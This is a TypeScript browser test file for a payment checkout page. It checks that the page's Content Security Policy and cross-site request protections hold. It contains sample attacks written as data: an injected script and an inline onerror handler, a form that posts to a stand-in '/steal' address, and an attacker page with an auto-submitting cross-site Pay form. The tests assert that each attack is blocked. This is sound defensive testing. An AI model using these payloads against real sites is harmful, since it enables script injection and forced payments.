// Defect 12 in a real headless Chromium: the checkout's own nonce'd script runs, a script or handler injected
// into the page does not, a form can only post to Tender (and the merchant's return URL), and a form on
// another site that posts to the page's buttons is refused with a 403 page while the order stays unpaid.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { startTestEnv, newMerchant, signed, postForm, type TestEnv } from './harness.js';
import { browserSkipReason, launchBrowser, type TestBrowser } from './browser.js';
import type { MerchantCredentials } from '../src/core/merchants.js';

const skip = browserSkipReason();
let env: TestEnv;
let browser: TestBrowser;
let m: MerchantCredentials;
/** The merchant's site, which also serves an attacker's page (another origin than Tender). */
let shop: { url: string; server: Server; evilForm?: string };

before(async () => {
  if (skip) return;
  const server = createServer((req, res) => {
    const html = req.url === '/evil' && shop.evilForm ? shop.evilForm : '<!doctype html><h1 id="landed">Shop</h1>';
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', connection: 'close' }).end(html);
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  shop = { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, server };
  env = await startTestEnv();
  m = await newMerchant(env, { brand: 'CSP Shop', website: shop.url });
  browser = await launchBrowser();
});
after(async () => {
  if (skip) return;
  await browser?.close();
  await env?.close();
  shop.server.closeAllConnections();
  await new Promise<void>((r) => shop.server.close(() => r()));
});

let seq = 0;
async function pending(): Promise<{ orderId: string; cashierURL: string; code: string }> {
  const p = {
    merchantId: String(m.merchantId),
    merchantTradeNo: `CSP-${++seq}`,
    createTime: String(env.clock.now().getTime()),
    userId: 'u',
    amount: '2',
    cryptoCurrency: 'USDT',
    successURL: `${shop.url}/thanks`,
  };
  const { body } = await postForm(`${env.url}/openapi/v1/createOrder`, signed(p, m.securityKey));
  assert.equal(body.code, 0, JSON.stringify(body));
  const cashierURL = body.data.cashierURL as string;
  return { orderId: String(body.data.orderId), cashierURL, code: new URL(cashierURL).pathname.split('/')[2]! };
}
const statusOf = async (orderId: string) =>
  (await env.deps.db.query<{ status: number }>('SELECT status FROM orders WHERE id = $1', [orderId])).rows[0]!.status;

test("defect 9.12: the page's own script runs; an injected script or inline handler is blocked", { skip }, async () => {
  const o = await pending();
  const ctx = await browser.context();
  const page = await ctx.newPage();
  await page.goto(o.cashierURL);
  // The countdown is the page's nonce'd script at work.
  const first = await page.textContent('#timeleft');
  await page.waitForFunction((t) => document.getElementById('timeleft')?.textContent !== t, first, {
    timeout: 20_000,
  });
  const outcome = await page.evaluate(async () => {
    const seen: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective));
    const s = document.createElement('script');
    s.textContent = 'window.__pwned = "script";';
    document.body.appendChild(s);
    const div = document.createElement('div');
    div.innerHTML = '<img src="/pay/x/status" onerror="window.__pwned = \'handler\'">';
    document.body.appendChild(div);
    // Violations are reported asynchronously; the image error comes after its request.
    for (let i = 0; i < 200 && seen.length < 2; i++) await new Promise((r) => setTimeout(r, 25));
    return { pwned: (window as unknown as { __pwned?: string }).__pwned ?? null, seen };
  });
  assert.equal(outcome.pwned, null, 'no injected code ran');
  assert.ok(outcome.seen.includes('script-src-elem'), JSON.stringify(outcome.seen));
  assert.ok(outcome.seen.includes('script-src-attr'), JSON.stringify(outcome.seen));
  await ctx.close();
});

test('defect 9.12: an injected form cannot post the customer to another site (form-action)', { skip }, async () => {
  const o = await pending();
  const ctx = await browser.context();
  const page = await ctx.newPage();
  await page.goto(o.cashierURL);
  const directive = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true });
        const f = document.createElement('form');
        f.method = 'post';
        f.action = 'http://127.0.0.2:9/steal';
        document.body.appendChild(f);
        f.submit();
      }),
  );
  assert.equal(directive, 'form-action');
  assert.equal(new URL(page.url()).pathname, new URL(o.cashierURL).pathname, 'the page did not leave');
  // The page's own Pay button (on a fresh load) still posts and lands on the merchant's successURL.
  await page.goto(o.cashierURL);
  await Promise.all([page.waitForURL((u) => u.pathname === '/thanks'), page.click('#pay')]);
  assert.equal(await statusOf(o.orderId), 14);
  await ctx.close();
});

test("defect 9.12: another site's auto-submitting form cannot press the sandbox Pay button", { skip }, async () => {
  const o = await pending();
  shop.evilForm = `<!doctype html><form id="f" method="post" action="${env.url}/pay/${o.code}/sandbox">
<input type="hidden" name="outcome" value="pay"></form><script>document.getElementById('f').submit()</script>`;
  const ctx = await browser.context();
  const page = await ctx.newPage();
  const [res] = await Promise.all([
    page.waitForResponse((r) => r.url().endsWith('/sandbox') && r.request().method() === 'POST'),
    page.goto(`${shop.url}/evil`),
  ]);
  assert.equal(res.status(), 403);
  await page.waitForSelector('#title');
  assert.equal(await page.textContent('#title'), 'Request refused');
  assert.equal(await statusOf(o.orderId), 0, 'the order was not paid');
  await ctx.close();
});
